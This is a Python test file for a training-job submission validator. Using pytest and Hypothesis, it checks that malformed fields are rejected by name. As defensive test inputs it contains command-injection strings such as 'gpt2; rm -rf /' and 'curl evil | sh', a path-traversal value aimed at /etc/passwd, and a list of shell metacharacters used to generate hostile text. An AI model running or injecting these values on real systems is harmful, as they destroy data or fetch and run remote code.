"""JobCreate validation at the edge: good submissions pass, every bad one is a ValidationError naming its field."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from spotshift.catalog import KNOWN_GPUS, KNOWN_INSTANCE_TYPES, KNOWN_REGIONS
from spotshift.models import ALLOWED_TRANSITIONS, JobCreate, JobStatus, JobUpdate

NOW = datetime(2030, 6, 1, 12, 0, tzinfo=UTC)
VALID = {
    "name": "tiny-run", "model": "openai-community/gpt2", "dataset": "s3://spotshift-data/corpus.jsonl",
    "max_steps": 500, "batch_size": 8, "grad_accum": 2, "learning_rate": 5e-4, "seq_len": 256, "seed": 7,
    "checkpoint_every_steps": 50, "checkpoint_every_seconds": 600, "keep_checkpoints": 2, "budget_usd": 25.0,
    "deadline": (NOW + timedelta(days=2)).isoformat(), "regions": ["us-east-1", "eu-west-1"],
    "instance_types": ["g5.xlarge", "g6.xlarge"], "gpus": ["A10G", "L4"], "markets": ["spot", "on_demand"],
    "approval": {"mode": "auto", "max_auto_plan_usd": 20}, "output_bucket": "spotshift-jobs",
    "idempotency_key": "submit-2030-06-01:1",
}


def validate(payload: dict) -> JobCreate:
    return JobCreate.model_validate(payload, context={"now": NOW})


def error_fields(payload: dict) -> set[str]:
    with pytest.raises(ValidationError) as rejected:
        validate(payload)
    return {str(e["loc"][0]) for e in rejected.value.errors()}


def test_a_full_valid_submission_passes():
    job = validate(VALID)
    assert job.deadline == NOW + timedelta(days=2)
    assert job.checkpoint_steps == 50


def test_minimal_submission_gets_defaults():
    job = validate({k: VALID[k] for k in ("model", "dataset", "max_steps", "budget_usd", "deadline")})
    assert job.regions == ["us-east-1", "us-east-2", "us-west-2"] and job.checkpoint_steps == 50


def test_local_model_directory_and_dataset_file_are_accepted(tmp_path):
    (tmp_path / "model").mkdir()
    (tmp_path / "data.txt").write_text("hello\n")
    job = validate({**VALID, "model": str(tmp_path / "model"), "dataset": str(tmp_path / "data.txt")})
    assert job.model == str(tmp_path / "model")


@pytest.mark.parametrize("field, value, allowed", [
    ("regions", ["us-east-1", "mars-north-1"], "Choose between us-east-1"),
    ("instance_types", ["g9.huge"], "Choose between g4dn.xlarge"),
    ("gpus", ["RTX4090"], "Choose between T4"),
    ("markets", ["reserved"], "spot"),
    ("budget_usd", 0, "greater than 0"),
    ("deadline", (NOW - timedelta(minutes=1)).isoformat(), "must be in the future"),
    ("deadline", "2030-07-01T00:00:00", "must carry a timezone"),
    ("model", "gpt2; rm -rf /", "may only contain"),
    ("model", "./no/such/dir", "not an existing directory"),
    ("dataset", "s3://spotshift-data/corpus.csv", ".txt or .jsonl"),
    ("max_steps", 0, "greater than or equal to 1"),
    ("batch_size", 5000, "less than or equal to 4096"),
    ("checkpoint_every_steps", 501, "at most max_steps"),
])
def test_rejections_name_the_field_and_what_is_allowed(field, value, allowed):
    with pytest.raises(ValidationError) as rejected:
        validate({**VALID, field: value})
    [error] = rejected.value.errors()
    assert error["loc"][0] == field
    assert allowed in error["msg"]


def test_unknown_field_is_refused_by_name():
    assert error_fields({**VALID, "user_data": "curl evil | sh"}) == {"user_data"}


def test_every_known_catalog_entry_is_accepted():
    job = validate({**VALID, "regions": list(KNOWN_REGIONS), "instance_types": list(KNOWN_INSTANCE_TYPES),
                    "gpus": list(KNOWN_GPUS)})
    assert len(job.regions) == len(KNOWN_REGIONS)


def test_terminal_statuses_have_no_way_out_and_every_status_is_in_the_machine():
    assert set(ALLOWED_TRANSITIONS) == set(JobStatus)
    assert all(not ALLOWED_TRANSITIONS[s] for s in JobStatus if s.terminal)


def test_job_update_rejects_negative_progress():
    with pytest.raises(ValidationError) as rejected:
        JobUpdate(step=-1)
    assert rejected.value.errors()[0]["loc"] == ("step",)


# --- property: generated bad payloads -------------------------------------------------------------

SHELL_HOSTILE = ["'", '"', "`", "$(", "${", ";", "&", "|", "<", ">", "\n", "\r", " ", "\\", "*", "?", "{", "}",
                 "\t", "\x00", "#", "!", "%", "(", ")", "[", "]"]


def hostile_text(base: str) -> st.SearchStrategy[str]:
    """`base` with a shell metacharacter spliced in somewhere (start, middle or end)."""
    return st.builds(lambda cut, bad, tail: base[:cut] + bad + tail + base[cut:],
                     st.integers(0, len(base)), st.sampled_from(SHELL_HOSTILE),
                     st.text(alphabet="abc$();'\" \n", max_size=6))


def not_a(kind: type, *, optional: bool = False) -> st.SearchStrategy:
    """Values of the wrong type; None too unless the field is optional (where None means 'default')."""
    others = [] if optional else [st.none()]
    if kind is not list:
        others.append(st.lists(st.integers(), max_size=2))
    if kind is not dict:
        others.append(st.dictionaries(st.text(max_size=3), st.integers(), max_size=2))
    if kind is not str:
        others.append(st.text(alphabet="xyz!", min_size=1, max_size=5))
    return st.one_of(*others)


def int_outside(lo: int, hi: int) -> st.SearchStrategy:
    return st.one_of(st.integers(max_value=lo - 1), st.integers(min_value=hi + 1),
                     st.floats(min_value=lo + 0.1, max_value=lo + 0.9), not_a(int))


def unknown_name(known: tuple[str, ...]) -> st.SearchStrategy[str]:
    return st.text(min_size=1, max_size=20).filter(lambda s: s not in known)


BAD_VALUES: dict[str, st.SearchStrategy] = {
    "name": st.one_of(st.text(alphabet="ABC_ .$;'", min_size=1, max_size=10), st.just(""), st.just("a" * 64),
                      st.just("-lead"), not_a(str)),
    "model": st.one_of(hostile_text("openai-community/gpt2"), hostile_text("s3://models-bkt/tiny"),
                       st.sampled_from(["", "s3://", "s3://UPPER/model", "owner/name/extra", "a--b", "name.",
                                        "./definitely/not/here", "../../etc/passwd/..", "-dash"]), not_a(str)),
    "dataset": st.one_of(hostile_text("s3://spotshift-data/corpus.txt"), hostile_text("/data/corpus.jsonl"),
                         st.sampled_from(["s3://spotshift-data/corpus.csv", "s3://spotshift-data", "s3://spotshift-data/",
                                          "relative-missing.txt", "/data/corpus.parquet", "", "/data/../x.txt"]),
                         not_a(str)),
    "max_steps": int_outside(1, 10_000_000),
    "batch_size": int_outside(1, 4096),
    "grad_accum": int_outside(1, 1024),
    "seq_len": int_outside(8, 131_072),
    "seed": int_outside(0, 2**32 - 1),
    "keep_checkpoints": int_outside(1, 100),
    "checkpoint_every_steps": st.one_of(st.integers(max_value=0), st.integers(min_value=VALID["max_steps"] + 1)),
    "checkpoint_every_seconds": st.one_of(st.floats(max_value=9.99), st.floats(min_value=86_400.01), st.just(float("nan"))),
    "learning_rate": st.one_of(st.floats(max_value=0), st.floats(min_value=1.0001), st.just(float("nan")), not_a(float)),
    "budget_usd": st.one_of(st.floats(max_value=0), st.floats(min_value=1_000_000.01), st.just(float("nan")),
                            st.just(float("inf")), not_a(float)),
    "deadline": st.one_of(
        st.datetimes(max_value=datetime(2030, 6, 1, 12, 0), timezones=st.just(UTC)),  # not after NOW
        st.datetimes(min_value=datetime(2031, 1, 1), timezones=st.none()),  # naive
        st.text(alphabet="0123456789-:T ", max_size=12), not_a(datetime)),
    "regions": st.one_of(st.just([]), st.lists(unknown_name(KNOWN_REGIONS), min_size=1, max_size=3),
                         st.just(["us-east-1", "us-east-1"]), not_a(list)),
    "instance_types": st.one_of(st.just([]), st.lists(unknown_name(KNOWN_INSTANCE_TYPES), min_size=1, max_size=3),
                                st.just(["g5.xlarge", "g5.xlarge"])),
    "gpus": st.one_of(st.just([]), st.lists(unknown_name(KNOWN_GPUS), min_size=1, max_size=3)),
    "markets": st.one_of(st.just([]), st.lists(unknown_name(("spot", "on_demand")), min_size=1, max_size=2),
                         st.just(["spot", "spot"])),
    "approval": st.one_of(st.just({"mode": "yolo"}), st.just({"max_auto_plan_usd": -1}), st.just({"timeout_s": 0}),
                          st.just({"extra": 1}), not_a(dict)),
    "output_bucket": st.one_of(st.just("UPPER-case"), st.just("a"), hostile_text("spotshift-jobs"),
                           not_a(str, optional=True)),
    "idempotency_key": st.one_of(st.just(""), st.just("k" * 129), hostile_text("submit-1"),
                             not_a(str, optional=True)),
}
REQUIRED = ("model", "dataset", "max_steps", "budget_usd", "deadline")


@st.composite
def bad_payloads(draw) -> tuple[dict, set[str]]:
    """A valid payload with 1-3 fields made bad (bad value, removed required field, or a stray key)."""
    payload, broken = dict(VALID), set()
    for _ in range(draw(st.integers(1, 3))):
        how = draw(st.sampled_from(["value", "value", "value", "missing", "extra"]))
        if how == "missing":
            field = draw(st.sampled_from(REQUIRED))
            payload.pop(field, None)
        elif how == "extra":
            field = draw(st.sampled_from(["user_data", "command", "__class__", "Model", "shell"]))
            payload[field] = draw(hostile_text("x"))
        else:
            field = draw(st.sampled_from(sorted(BAD_VALUES)))
            payload[field] = draw(BAD_VALUES[field])
        broken.add(field)
    return payload, broken


@settings(max_examples=1200, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(bad_payloads())
def test_generated_bad_payloads_are_rejected_naming_a_broken_field(case):
    payload, broken = case
    with pytest.raises(ValidationError) as rejected:
        validate(payload)
    errors = rejected.value.errors()
    assert errors
    for error in errors:
        assert error["loc"], f"error without a field: {error}"
        assert str(error["loc"][0]) in broken, f"{error['loc']} is not one of the broken fields {broken}"


# --- training modes and Hub datasets -----------------------------------------------------------


def test_training_mode_defaults_are_a_full_fine_tune_in_auto_precision():
    job = validate(VALID)
    assert (job.method, job.precision, job.gradient_checkpointing, job.lora, job.merge_adapter) == (
        "full", "auto", False, None, False)
    assert (job.dataset_split, job.dataset_text_column, job.eval_split, job.lora_options) == ("train", "text", None, None)


def test_lora_job_gets_default_adapters_and_keeps_given_ones():
    job = validate({**VALID, "method": "lora", "precision": "bf16", "gradient_checkpointing": True})
    assert job.lora_options.model_dump() == {"r": 16, "alpha": 32, "dropout": 0.05, "target_modules": None}
    given = validate({**VALID, "method": "qlora", "merge_adapter": True,
                      "lora": {"r": 8, "alpha": 16, "dropout": 0.0, "target_modules": ["q_proj", "v_proj"]}})
    assert given.lora_options.r == 8 and given.lora_options.target_modules == ["q_proj", "v_proj"] and given.merge_adapter


def test_hub_dataset_with_split_column_and_eval_split_is_accepted():
    job = validate({**VALID, "dataset": "hf://datasets/roneneldan/TinyStories", "dataset_split": "train[:90%]",
                    "dataset_text_column": "story", "eval_split": "validation"})
    assert job.dataset == "hf://datasets/roneneldan/TinyStories" and job.eval_split == "validation"


@pytest.mark.parametrize("field, value, allowed", [
    ("method", "dpo", "'full', 'lora' or 'qlora'"),
    ("precision", "int8", "'auto', 'bf16', 'fp16' or 'fp32'"),
    ("dataset", "hf://models/gpt2", "hf://datasets/<owner>/<name>"),
    ("dataset", "hf://datasets/a--b", "hf://datasets/<owner>/<name>"),
    ("dataset_split", "train; rm", "pattern"),
    ("dataset_text_column", "my text", "pattern"),
    ("eval_split", "", "pattern"),
    ("gradient_checkpointing", "sometimes", "boolean"),
])
def test_bad_training_mode_is_rejected_naming_field_and_choices(field, value, allowed):
    with pytest.raises(ValidationError) as rejected:
        validate({**VALID, field: value})
    errors = rejected.value.errors()
    assert [str(e["loc"][0]) for e in errors] == [field]
    assert allowed in errors[0]["msg"]


@pytest.mark.parametrize("extra, field, says", [
    ({"lora": {"r": 8}}, "lora", "lora or qlora only"),
    ({"merge_adapter": True}, "merge_adapter", "lora or qlora only"),
    ({"method": "qlora", "precision": "fp32"}, "precision", "Choose between auto, bf16, fp16"),
    ({"method": "lora", "lora": {"r": 0}}, "lora", "greater than or equal to 1"),
    ({"method": "lora", "lora": {"target_modules": ["q proj"]}}, "lora", "not a module name"),
    ({"method": "lora", "lora": {"rank": 8}}, "lora", "Extra inputs"),
])
def test_adapter_options_are_checked_against_the_method(extra, field, says):
    with pytest.raises(ValidationError) as rejected:
        validate({**VALID, **extra})
    errors = rejected.value.errors()
    assert [str(e["loc"][0]) for e in errors] == [field] and says in errors[0]["msg"]
